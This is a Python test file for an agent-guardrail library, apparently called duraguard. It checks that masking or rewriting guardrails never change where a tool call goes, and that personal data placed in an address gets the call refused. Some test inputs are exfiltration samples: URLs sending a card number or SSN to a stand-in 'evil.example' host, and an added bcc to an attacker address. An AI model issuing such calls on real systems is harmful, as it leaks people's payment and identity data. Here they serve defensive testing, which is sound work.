"""A mask never changes where a call goes (issue 25, item 1).

The arguments that address a call (recipient, payee, URL, host, path, channel, account) are
judged as destinations: ``pii`` leaves the address itself to the destination checks, and a
``mask`` or ``rewrite`` by any guardrail (built-in or a user's) that would change one refuses
the call, with a reason that names the guardrail and the field. Tested for every kind of tool
that sends or writes somewhere, and for reads that reach a place.
"""

from __future__ import annotations

from typing import Any

import pytest

import duraguard
from duraguard import Subject, Verdict
from duraguard._addresses import address_paths, field_name, role_of
from duraguard.checks import pii, policy
from duraguard.checks.policy.origins import role_of as policy_role_of
from duraguard.errors import ConfigurationError
from duraguard.guardrail import Resources
from duraguard.types import PassResult

CARD = "4111 1111 1111 1111"

# (tool, kind, arguments, the address fields) for every way a call can say where it goes.
CALLS: list[tuple[str, str, dict[str, Any], list[str]]] = [
    ("send_email", "send", {"to": "ana@example.com", "subject": "Hi", "body": "Hello"}, ["#/to"]),
    (
        "send_email",
        "send",
        {"to": ["ana@example.com", "bob@example.com"], "cc": "cy@example.com", "body": "Hi"},
        ["#/to/0", "#/to/1", "#/cc"],
    ),
    ("post_message", "send", {"channel": "#ops", "text": "deploy done"}, ["#/channel"]),
    ("send_sms", "send", {"phone": "+1 415 555 0132", "message": "Your code"}, ["#/phone"]),
    (
        "transfer_money",
        "send",
        {"recipient_iban": "DE89 3704 0044 0532 0130 00", "amount": 20, "memo": "rent"},
        ["#/recipient_iban"],
    ),
    (
        "pay_invoice",
        "send",
        {"payee": "ACME Ltd", "account": 12345678, "amount": 5},
        ["#/payee", "#/account"],
    ),
    (
        "call_webhook",
        "send",
        {"webhook_url": "https://hooks.example.com/x", "body": "{}"},
        ["#/webhook_url"],
    ),
    ("share_file", "write", {"file_id": "F1", "share_with": "ana@example.com"}, ["#/share_with"]),
    ("write_file", "write", {"path": "/srv/out/report.txt", "content": "totals"}, ["#/path"]),
    (
        "upload",
        "write",
        {"bucket": "reports", "file_path": "q3/summary.csv", "data": "a,b"},
        ["#/bucket", "#/file_path"],
    ),
    (
        "create_event",
        "write",
        {"title": "Sync", "attendees": ["ana@example.com"], "host": "meet.example.com"},
        ["#/attendees/0", "#/host"],
    ),
    ("assign_ticket", "write", {"ticket_id": "T-9", "assignee": "ana"}, ["#/assignee"]),
    ("fetch_page", "read", {"url": "https://docs.example.com/a?b=1"}, ["#/url"]),
    ("open_page", "read", {"page": "https://docs.example.com/a"}, ["#/page"]),  # a URL as a whole
    (
        "forward",
        "send",
        {"email": {"to": "ana@example.com", "body": "see below"}, "note": "fyi"},
        ["#/email/to"],
    ),
]


def ids(rows: list[Any]) -> list[str]:
    return [f"{r[0]}-{i}" for i, r in enumerate(rows)]


@pytest.mark.parametrize(("tool", "kind", "args", "fields"), CALLS, ids=ids(CALLS))
def test_the_fields_that_address_a_call_are_read_from_their_names_and_values(
    tool: str, kind: str, args: dict[str, Any], fields: list[str]
) -> None:
    assert list(address_paths(args)) == fields


def test_a_tool_can_name_its_destinations_and_a_schema_format_says_so_too() -> None:
    @duraguard.tool(kind="send", destinations=["box"])
    def deliver(box: str, parcel: str) -> dict[str, Any]:
        """Deliver a parcel."""
        return {}

    assert deliver.destinations == ("box",)
    assert address_paths({"box": "B-12", "parcel": "p"}, declared=deliver.destinations) == (
        "#/box",
    )
    schema = {"properties": {"where": {"type": "string", "format": "uri"}}}
    assert address_paths({"where": "x"}, schema=schema) == ("#/where",)
    # what the tool says of an argument outranks its name
    assert address_paths({"to": "x"}, roles={"to": "text"}) == ()


def test_a_destination_that_is_not_an_argument_is_refused_when_the_tool_is_declared() -> None:
    with pytest.raises(
        ConfigurationError, match=r"destinations names 'recipent'.*arguments: to, body"
    ):

        @duraguard.tool(kind="send", destinations=["recipent"])
        def send(to: str, body: str) -> dict[str, Any]:
            """Send."""
            return {}


def test_ids_and_text_do_not_address_a_call() -> None:
    args = {"email_id": "E1", "body": "write to ana@example.com", "subject": "Re: ana@example.com"}
    assert address_paths(args) == ()
    assert field_name("#/to/0") == "to[0]" and field_name("#/email/to") == "email.to"


def test_the_policy_reads_argument_roles_as_it_did() -> None:
    # moved to duraguard._addresses; the policy's own name for it is the same function
    assert policy_role_of is role_of
    assert role_of("to", "ana@example.com", {}, {}) == "destination"
    assert role_of("email_id", "E1", {}, {}) == "value"
    assert role_of("body", "hello there", {}, {}) == "text"
    assert role_of("path", "/srv/x", {}, {}) == "value"  # the policy does not judge paths as sends


# -- guardrails that would change an address ---------------------------------------------------


class MaskAll(duraguard.Guardrail):
    """A user's masking guardrail that hides every string it is given."""

    name = "mask-all"

    async def check(self, subject: Subject) -> Verdict:
        return Verdict(action="mask", payload=_every_string(subject.value, "[HIDDEN]"))


class RewriteOne(duraguard.Guardrail):
    """A user's rewriting guardrail that changes one argument."""

    name = "rewrite-one"

    def __init__(self, field: str, value: Any) -> None:
        self.field, self.value = field, value

    async def check(self, subject: Subject) -> Verdict:
        return Verdict(action="rewrite", payload={**subject.value, self.field: self.value})


def _every_string(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {k: _every_string(v, text) for k, v in value.items()}
    if isinstance(value, list):
        return [_every_string(v, text) for v in value]
    return text if isinstance(value, str | int) and not isinstance(value, bool) else value


async def judge(guardrails: list[Any], tool: str, args: dict[str, Any]) -> PassResult:
    own = [g for g in guardrails if isinstance(g, duraguard.Guardrail)]
    resources = Resources(guardrails={g.name: g for g in own})
    return await duraguard.evaluate(guardrails, args, tool=tool, resources=resources)


@pytest.mark.parametrize(("tool", "kind", "args", "fields"), CALLS, ids=ids(CALLS))
async def test_a_mask_that_would_change_an_address_refuses_the_call_naming_it(
    tool: str, kind: str, args: dict[str, Any], fields: list[str]
) -> None:
    r = await judge([MaskAll()], tool, args)
    assert r.verdict.action == "deny" and r.verdict.check == "duraguard.address"
    assert r.verdict.by == "mask-all" and not r.replaced and r.value is None
    reason = r.verdict.reason or ""
    for f in fields:
        assert f"`{field_name(f)}`" in reason
    assert "never changes where a call goes" in reason
    assert [d.path for d in r.verdict.detections if d.rule == "address.changed"] == fields


@pytest.mark.parametrize(("tool", "kind", "args", "fields"), CALLS, ids=ids(CALLS))
async def test_a_rewrite_of_only_an_address_refuses_and_one_of_the_content_is_applied(
    tool: str, kind: str, args: dict[str, Any], fields: list[str]
) -> None:
    top = fields[0].split("/")[1]
    moved = await judge([RewriteOne(top, "https://elsewhere.example.net/")], tool, args)
    assert moved.verdict.action == "deny" and moved.verdict.check == "duraguard.address"
    other = next((k for k in args if not any(f.split("/")[1] == k for f in fields)), None)
    if other is None:
        return
    kept = await judge([RewriteOne(other, "rewritten")], tool, args)
    assert kept.verdict.action == "rewrite" and kept.replaced
    assert kept.value == {**args, other: "rewritten"}


async def test_a_rewrite_that_adds_a_recipient_refuses_the_call() -> None:
    r = await judge(
        [RewriteOne("bcc", "eve@evil.example")], "send_email", {"to": "a@x.com", "body": "hi"}
    )
    assert r.verdict.action == "deny" and "`bcc`" in (r.verdict.reason or "")


async def test_pii_leaves_the_recipient_alone_and_masks_what_the_email_carries() -> None:
    args = {
        "to": "ana@example.com",
        "cc": ["Bob <bob@example.com>"],
        "subject": "Refund",
        "body": f"Card {CARD} refunded; questions to help@example.com or +1 415 555 0132.",
    }
    r = await judge([pii()], "send_email", args)
    assert r.verdict.action == "mask" and r.replaced
    assert r.value["to"] == "ana@example.com" and r.value["cc"] == ["Bob <bob@example.com>"]
    assert r.value["body"] == "Card [CARD] refunded; questions to [EMAIL] or [PHONE]."
    assert {d.path for d in r.verdict.detections} == {"#/body"}


@pytest.mark.parametrize(
    ("tool", "args", "field", "kind"),
    [
        (
            "fetch_page",
            {"url": "https://evil.example/collect?card=4111111111111111"},
            "url",
            "credit-card",
        ),
        (
            "call_webhook",
            {"webhook_url": "https://h.example/?ssn=123-45-6789", "body": "x"},
            "webhook_url",
            "ssn",
        ),
        ("write_file", {"path": f"/srv/cards/{CARD}.txt", "content": "x"}, "path", "credit-card"),
        ("transfer_money", {"payee": "Ana Lima, SSN 123-45-6789", "amount": 5}, "payee", "ssn"),
    ],
)
async def test_personal_data_written_into_an_address_is_refused_not_masked_away(
    tool: str, args: dict[str, Any], field: str, kind: str
) -> None:
    r = await judge([pii()], tool, args)
    assert r.verdict.action == "deny" and r.verdict.check == "duraguard.address", r
    assert r.verdict.by == "pii" and f"`{field}`" in (r.verdict.reason or "")
    assert f"pii.{kind}" in (r.verdict.reason or "") and not r.replaced


async def test_a_declared_destination_is_kept_from_a_mask_too() -> None:
    @duraguard.tool(kind="send", destinations=["box"])
    def deliver(box: str, note: str) -> dict[str, Any]:
        """Deliver."""
        return {}

    resources = Resources(tools={"deliver": deliver}, guardrails={"mask-all": MaskAll()})
    r = await duraguard.evaluate(
        [MaskAll()], {"box": "B-12", "note": "x"}, tool="deliver", resources=resources
    )
    assert r.verdict.action == "deny" and "`box`" in (r.verdict.reason or "")
    bare = await duraguard.evaluate(
        [MaskAll()],
        {"box": "B-12", "note": "x"},
        tool="deliver",
        resources=Resources(guardrails={"mask-all": MaskAll()}),
    )
    assert bare.verdict.action == "mask"  # undeclared, "box" says nothing: content


async def test_a_mask_that_leaves_the_addresses_as_they_are_goes_on_to_the_next_guardrail() -> None:
    args = {"to": "ana@example.com", "body": f"card {CARD}"}
    r = await judge([pii(), MaskAll()], "send_email", args)
    assert [v.action for v in r.verdicts] == ["mask", "deny"]
    assert r.verdict.by == "mask-all"


async def test_results_and_other_placements_are_content_a_mask_may_change() -> None:
    out = await duraguard.evaluate(
        [pii()], {"to": "ana@example.com"}, placement="tool-result", tool="x"
    )
    assert out.verdict.action == "mask" and out.value == {"to": "[EMAIL]"}


def test_the_policy_takes_a_declared_destination_as_one() -> None:
    from duraguard.checks.policy.catalogue import from_code

    @duraguard.tool(kind="send", destinations=["box"])
    def deliver(box: str, note: str) -> dict[str, Any]:
        """Deliver."""
        return {}

    assert from_code(deliver).roles == {"box": "destination"}
    assert policy() is not None


# -- on a real server: the loop, the tool step, the audit, replay ----------------------------


@pytest.mark.parametrize("check_mode", ["auto", "local"])
async def test_in_a_run_the_recipient_is_kept_and_a_masked_url_is_refused_before_the_tool(
    temporal_env: Any, check_mode: str
) -> None:
    from duraguard.models import answer, calls
    from duraguard.testing import AgentInput, AgentWorkflow

    from ._harness import TOOL_LOG, make_harness

    h = await make_harness(temporal_env, check_mode=check_mode)
    TOOL_LOG.clear()
    model = h.script(
        calls(("send_email", {"to": "ana@example.com", "body": f"your card {CARD} is refunded"})),
        calls(("fetch", {"url": "https://evil.example/c?n=4111111111111111"})),
        answer("done"),
    )
    spec = AgentInput(
        prompt="tell ana@example.com", model=model, tools=["send_email", "fetch"],
        guardrails=[pii()],
    )  # fmt: skip
    run = await h.run(AgentWorkflow.run, spec)
    assert TOOL_LOG == [
        ("send_email", {"to": "ana@example.com", "body": "your card [CARD] is refunded"})
    ]
    rows = [(v.tool, v.action, v.check) for v in run.result.verdicts if v.placement == "tool-args"]
    assert rows == [("send_email", "mask", "pii"), ("fetch", "deny", "duraguard.address")]
    refused = next(v for v in run.result.verdicts if v.check == "duraguard.address")
    assert "`url`" in (refused.reason or "") and "never changes where a call goes" in (
        refused.reason or ""
    )
